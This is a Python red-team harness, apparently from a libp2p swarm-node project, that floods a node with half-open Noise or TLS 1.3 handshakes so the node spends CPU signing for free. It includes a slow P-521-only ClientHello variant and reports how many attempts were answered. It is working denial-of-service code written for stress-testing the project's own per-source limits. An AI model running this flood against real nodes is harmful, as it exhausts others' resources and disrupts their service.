"""A hostile process that makes a libp2p node sign for free: the handshake flood (red team 26, session 36).

Each attempt opens a TCP connection to the node, selects a security protocol, sends its first message,
built once (no crypto on this side), reads the node's answer, and closes:

    noise     one Noise XX first message (32 random bytes); the node answers with an X25519 product and a
              signature of its identity key (RSA-2048 for a node: 2.0-2.5 ms of p2pd)
    tls       one TLS 1.3 ClientHello (ALPN libp2p, X25519); the node answers with its ServerHello, certificate and
              a signature of the certificate's key, made once at start
    tls-p521  the same offering only P-521 for the key exchange, slow in Go 1.20: 7.7-8.2 ms (red team 29)

A node speaks Noise only (`net/hivemind_internals.NodeP2P`): a TLS attempt is told `na` and counts as not
answered. See net/firewall.py for the per-source limit, and bench/handshake_cost.py for the costs.

    python -m swarm_node.harness.handshake_flood --host 127.0.0.1 --port 4001 --seconds 10 [--security tls]

Prints one JSON line: attempts made, attempts the node answered within --timeout, seconds. An attempt the node
answers late (busy) still cost it the handshake: its CPU, not `answered`, is the flood's price.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import ssl
import struct
import time

from swarm_node.net.identity import uvarint

ANSWER_BYTES = 96  # a Noise second message is 32 + 48 + a signed payload, a TLS ServerHello alone ~120: the node answered


def _line(protocol: str) -> bytes:
    data = (protocol + "\n").encode()
    return uvarint(len(data)) + data


def _client_hello(curve: str | None = None) -> bytes:
    """A TLS 1.3 ClientHello as libp2p's TLS expects it (ALPN `libp2p`), offering only `curve` if given, made once
    by Python's ssl."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.minimum_version = ssl.TLSVersion.TLSv1_3
    context.set_alpn_protocols(["libp2p"])
    if curve is not None:
        context.set_ecdh_curve(curve)
    outgoing = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    except ssl.SSLWantReadError:  # it waits for the server: the hello is written
        pass
    return outgoing.read()


HELLOS = {"noise": lambda: _line("/multistream/1.0.0") + _line("/noise") + struct.pack(">H", 32) + os.urandom(32),
          "tls": lambda: _line("/multistream/1.0.0") + _line("/tls/1.0.0") + _client_hello(),
          "tls-p521": lambda: _line("/multistream/1.0.0") + _line("/tls/1.0.0") + _client_hello("secp521r1")}


async def attempt(host: str, port: int, timeout_s: float, hello: bytes) -> bool:
    """One half handshake; True if the node answered within `timeout_s` (more than ANSWER_BYTES)."""
    writer = None
    try:
        async with asyncio.timeout(timeout_s):
            reader, writer = await asyncio.open_connection(host, port)
            writer.write(hello)
            got = 0
            while got < ANSWER_BYTES:
                chunk = await reader.read(4096)
                if not chunk:
                    return False
                got += len(chunk)
            return True
    except (OSError, TimeoutError):
        return False
    finally:
        if writer is not None:
            writer.close()


async def flood(host: str, port: int, seconds: float, concurrency: int, timeout_s: float, interval_s: float = 0.0,
                security: str = "noise") -> dict:
    """Attempts from `concurrency` loops for `seconds`, each loop waiting `interval_s` between its attempts."""
    tried = answered = 0
    hello = HELLOS[security]()
    deadline = time.monotonic() + seconds

    async def loop() -> None:
        nonlocal tried, answered
        while time.monotonic() < deadline:
            tried += 1
            answered += await attempt(host, port, min(timeout_s, max(0.05, deadline - time.monotonic())), hello)
            await asyncio.sleep(interval_s)

    start = time.monotonic()
    await asyncio.gather(*(loop() for _ in range(concurrency)))
    return {"tried": tried, "answered": answered, "seconds": round(time.monotonic() - start, 2)}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--concurrency", type=int, default=32)
    ap.add_argument("--timeout", type=float, default=1.0, help="seconds an attempt waits for the node's answer")
    ap.add_argument("--interval", type=float, default=0.0, help="seconds each loop waits between attempts (an honest pace)")
    ap.add_argument("--security", choices=sorted(HELLOS), default="noise", help="the handshake to start")
    args = ap.parse_args()
    print(json.dumps(asyncio.run(flood(args.host, args.port, args.seconds, args.concurrency, args.timeout, args.interval,
                                       args.security))), flush=True)


if __name__ == "__main__":
    main()
